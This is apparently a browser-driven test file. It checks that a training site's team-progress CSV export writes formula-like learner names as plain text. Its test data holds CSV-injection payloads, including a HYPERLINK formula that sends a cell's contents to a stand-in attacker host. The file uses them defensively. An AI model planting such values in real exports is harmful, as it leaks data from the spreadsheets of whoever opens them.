// 学员进度汇总's CSV: a learner chooses their own name (in their progress file), so a name
// Excel would read as a formula (=HYPERLINK(…), +…, -…, @…, or one behind a tab or carriage
// return) is written with a leading ' and stays text on the trainer's computer.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import { join } from "node:path";
import { withBrowserAndBook, fileUrl, tempDir } from "./helpers.mjs";

let browser;
let root;
withBrowserAndBook((b, r) => { browser = b; root = r; });

const site = (rel) => fileUrl(join(root, "site", rel));

test("names that would be formulas in Excel are exported as text", async () => {
  const ctx = await browser.newContext({ acceptDownloads: true });
  const page = await ctx.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  await page.goto(site("progress/team/index.html"));
  const title = await page.evaluate(() => document.body.dataset.bookTitle || document.body.dataset.book);
  const names = ['=HYPERLINK("http://attacker.example/?leak="&A3,"查看详情")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "张三", "王-五"];
  const dir = tempDir();
  const paths = names.map((name, i) => {
    mkdirSync(join(dir, `d${i}`));
    const p = join(dir, `d${i}`, "学习进度.json");
    writeFileSync(p, JSON.stringify({ handbook: "progress", book: title, exported: "2026-12-01T08:00:00Z",
      progress: { v: 1, name, learner: "learner" + i + "xyz", lessons: {}, quizzes: {}, scenarios: {}, cards: {} } }));
    return p;
  });
  await page.setInputFiles("#team-files", paths);
  await page.waitForFunction((n) => new RegExp(`已汇总 ${n} 名学员`).test(document.querySelector(".team-note").textContent), names.length);
  const [download] = await Promise.all([page.waitForEvent("download"), page.click(".team-csv")]);
  const csv = readFileSync(await download.path(), "utf8");
  // The first cell of each row (a quoted name may hold a CR: split on the row ends only).
  const rows = csv.replace(/^\ufeff/, "").split(/"\r\n/).slice(1).filter(Boolean);
  const first = rows.map((r) => /^"((?:[^"]|"")*)"/.exec(r)[1].replace(/""/g, '"'));
  for (const name of names) {
    const safe = /^[=+\-@\t\r]/.test(name) ? "'" + name : name;
    assert.ok(first.includes(safe), `${JSON.stringify(name)} written as ${JSON.stringify(safe)}: ${JSON.stringify(first)}`);
  }
  for (const cell of first) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, "no cell starts as a formula");
  // The page itself shows the names as they are.
  const shown = await page.$$eval(".team-table tbody th", (ths) => ths.map((t) => t.textContent));
  assert.ok(shown.includes("+1+cmd"), JSON.stringify(shown));
  assert.deepEqual(errors, []);
  await ctx.close();
});
